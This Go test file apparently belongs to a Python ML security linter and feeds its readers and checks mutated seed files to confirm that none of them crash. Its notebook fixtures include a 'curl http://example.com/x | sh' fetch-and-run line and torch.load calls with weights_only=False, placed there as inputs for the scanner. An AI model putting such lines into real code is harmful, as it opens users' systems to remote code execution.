package pyguardml_test

import (
	"bytes"
	"cmp"
	"context"
	"fmt"
	"maps"
	"os"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/pyguard/pyguardml/ast"
	"github.com/pyguard/pyguardml/checks"
	"github.com/pyguard/pyguardml/internal/casetest"
	"github.com/pyguard/pyguardml/internal/gitignore"
	"github.com/pyguard/pyguardml/internal/manifest"
	"github.com/pyguard/pyguardml/pyguardml"
	"github.com/pyguard/pyguardml/pyguardml/config"
)

// mutations yields what a text becomes when it ends early, when a byte of it is another one, and when
// a line stands there twice. With every above 1 only one in so many is made.
func mutations(text []byte, every int, yield func([]byte)) {
	for i := 0; i < len(text); i += every {
		yield(text[:i:i])
	}
	for i := every / 2; i < len(text); i += every {
		flipped := bytes.Clone(text)
		flipped[i] ^= [...]byte{0x01, 0x20, 0x80, 0xff}[i/every%4]
		yield(flipped)
	}
	lines := bytes.SplitAfter(text, []byte("\n"))
	for i := 0; i < len(lines); i += 1 + every/8 {
		yield(bytes.Join(slices.Concat(lines[:i+1], lines[i:]), nil))
	}
}

// callMutations yields what a Python file becomes when a call in it has other arguments than it should: none, the
// first alone, two of no name, and some that are not known.
func callMutations(name string, text []byte, every int, yield func([]byte)) {
	source, err := ast.NewSource(name, text)
	if err != nil {
		return
	}
	file, err := ast.Parse(context.Background(), source)
	if err != nil {
		return
	}
	n := 0
	ast.InspectStmts(file.Body, func(node ast.Node) bool {
		c, ok := node.(*ast.Call)
		if n++; !ok || n%every != 0 || c.Rparen <= c.Fn.Stop() {
			return true
		}
		args := source.Text[c.Fn.Stop()+1 : c.Rparen]
		texts := []string{"", "*some", "**some", "a, b", "*some, **some", "x=1"}
		if len(c.Args) > 0 {
			first := string(source.Slice(c.Args[0].Range()))
			texts = append(texts, first, first+", *some", first+", **some", first+", x=1", first+", None", "*"+first, "None, "+first)
		}
		for _, t := range texts {
			if t != string(args) {
				yield(slices.Concat(source.Text[:c.Fn.Stop()+1], []byte(t), source.Text[c.Rparen:]))
			}
		}
		return true
	})
}

// mutationSeeds are files of the checks' cases, a few of each kind: those of different checks, since
// each has its own oddities.
func mutationSeeds(t *testing.T, perKind int) []casetest.File {
	t.Helper()
	archives, err := filepath.Glob("../checks/*/testdata/*.txtar")
	if err != nil || len(archives) == 0 {
		t.Fatalf("no cases: %v", err)
	}
	taken := map[string]int{}
	var seeds []casetest.File
	for _, name := range archives {
		data, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		a, err := casetest.ParseArchive(strings.TrimSuffix(filepath.Base(name), ".txtar"), data)
		if err != nil {
			t.Fatal(err)
		}
		here := map[string]bool{}
		for _, c := range a.Cases {
			for _, f := range c.Files {
				kind := seedKind(f)
				if kind == "" || here[kind] && perKind < 1000 || taken[kind] == perKind || len(f.Content) < 20 || len(f.Content) > 1500 {
					continue
				}
				here[kind] = true
				taken[kind]++
				seeds = append(seeds, f)
			}
		}
	}
	for name, text := range map[string]string{
		"percent.py":    "# ---\n# jupyter:\n#   jupytext:\n#     formats: ipynb,py:percent\n# ---\n\n# %% [markdown]\n# Title\n\n# %% tags=[\"a\"]\nimport torch\n# !pip install x==1\n\n# %%\nnet = torch.load('a.pt', weights_only=False)\n# %time net()\n",
		"light.py":      "# ---\n# jupyter:\n#   jupytext:\n#     text_representation:\n#       format_name: light\n# ---\n\n# # Title\n\nimport torch\n\n# +\n# !pip install x\nnet = torch.load('a.pt', weights_only=False)\n# -\n",
		"databricks.py": "# Databricks notebook source\n# MAGIC %md\n# MAGIC # Title\n\n# COMMAND ----------\n\n# MAGIC %pip install x==1\n\n# COMMAND ----------\n\nimport torch\nnet = torch.load('a.pt', weights_only=False)\n# MAGIC %sh curl http://example.com/x | sh\n",
	} {
		taken["notebook script"]++
		seeds = append(seeds, casetest.File{Path: name, Content: []byte(text)})
	}
	for _, kind := range []string{"requirements", "Dockerfile", "compose", "workflow", "YAML", "TOML", "env file", "shell script", "README", "pyproject", "notebook", "notebook script"} {
		if taken[kind] == 0 {
			t.Errorf("no case holds a file of the kind %s any more (%v)", kind, slices.Sorted(maps.Keys(taken)))
		}
	}
	slices.SortStableFunc(seeds[len(seeds)-3:], func(a, b casetest.File) int { return cmp.Compare(a.Path, b.Path) })
	return seeds
}

// seedKind names the reader that a file is for, "" for what is no text.
func seedKind(f casetest.File) string {
	kind, known := pyguardml.KindOf(f.Path)
	switch {
	case !known || kind == checks.Artifact:
		return ""
	case kind == checks.Notebook:
		return "notebook"
	case kind == checks.Manifest:
		return manifest.Recognise(f.Path).String()
	case bytes.Contains(f.Content, []byte("# %%")) || bytes.Contains(f.Content, []byte("# COMMAND")) || bytes.Contains(f.Content, []byte("# jupytext")):
		return "notebook script"
	}
	return "Python"
}

// Whatever becomes of a file, all that reads it and all checks that are told of it go on: those of
// readers that came last, too.
func TestMutatedFilesBreakNoReaderAndNoCheck(t *testing.T) {
	perKind, every, part, parts := 3, 23, 0, 1
	if testing.Short() {
		perKind = 2
	}
	// MUTATE=400,1 takes up to 400 files of a kind and changes each byte of them: 580 files become 570,000, some of which take
	// 5 ms of processor time each, which is half an hour on two processors and more than the ten minutes that go test
	// allows: give -timeout 2h, or MUTATE=400,1,0/8 to MUTATE=400,1,7/8 for an eighth of the files each.
	if s := os.Getenv("MUTATE"); s != "" {
		if n, err := fmt.Sscanf(s, "%d,%d,%d/%d", &perKind, &every, &part, &parts); n != 2 && err != nil || parts < 1 || every < 1 {
			t.Fatalf("MUTATE=%s: %v", s, err)
		}
	}
	a, err := pyguardml.New(pyguardml.Options{Profile: "all"})
	if err != nil {
		t.Fatal(err)
	}
	for n, seed := range mutationSeeds(t, perKind) {
		if n%parts != part {
			continue
		}
		var files []pyguardml.File
		analyse := func() {
			a.Forget()
			res, err := a.Analyze(context.Background(), files)
			if err != nil {
				t.Fatal(err)
			}
			broken := func(name string, err error) {
				for _, f := range files {
					if f.Path == name {
						t.Fatalf("%s: %v\n%q", name, err, f.Content)
					}
				}
			}
			for _, e := range res.CheckErrors {
				broken(e.Path, e)
			}
			for _, e := range res.FileErrors {
				if text := e.Err.Error(); strings.Contains(text, "internal error") || len(text) > 400 {
					broken(e.Path, e)
				}
			}
			files = nil
		}
		t.Run(fmt.Sprintf("%d/%s", n, strings.ReplaceAll(seed.Path, "/", "_")), func(t *testing.T) {
			add := func(text []byte) {
				files = append(files, pyguardml.File{Path: path.Join(fmt.Sprint("p", len(files)), seed.Path), Content: text})
				if len(files) == 500 {
					analyse()
				}
			}
			if seedKind(seed) == "Python" {
				callMutations(seed.Path, seed.Content, every, add)
			}
			if os.Getenv("MUTATE_CALLS") == "" {
				mutations(seed.Content, every, add)
			}
			if len(files) > 0 {
				analyse()
			}
		})
	}
}

// Files that are read beside those that are analysed.
func TestMutatedSettingsAndIgnoreFilesBreakNoReader(t *testing.T) {
	settings := []byte("[project]\nname = \"a\"\n\n[tool.pyguardml]\nprofile = \"all\"\nselect = [\"LLM01\", \"PML12\"]\nignore = [\"PML1201\"]\nexclude = [\"a/**\"]\nbaseline = \"b.json\"\ncache = \".c\"\n\n" +
		"[[tool.pyguardml.per-path]]\npaths = [\"tests/**\"]\nignore = [\"1.2\"]\nreason = \"tests\"\n\n[[tool.pyguardml.models]]\ncall = \"acme.chat().ask\"\nsource = \"llm\"\n")
	ignored := []byte("# notes\n*.py[cod]\n!keep.py\n/build/\n**/tmp/**\ndoc/*.t?t\n[!a]b\n\\#x\n\\!y\nspace\\ \n[a-\n\\\n")
	mutations(settings, 1, func(text []byte) {
		_, _ = config.Parse("pyproject.toml", text)
		_, _ = config.Parse("pyguardml.toml", text)
	})
	mutations(ignored, 1, func(text []byte) {
		stack := gitignore.Stack{gitignore.Parse(".", text), gitignore.Parse("a", text)}
		for _, name := range []string{"a", "a/b", "build", "a/tmp/x.py", "doc/a.txt", "-", "[", "\\", "é/\xff"} {
			stack.Ignored(name, true)
			stack.Ignored(name, false)
		}
	})
}
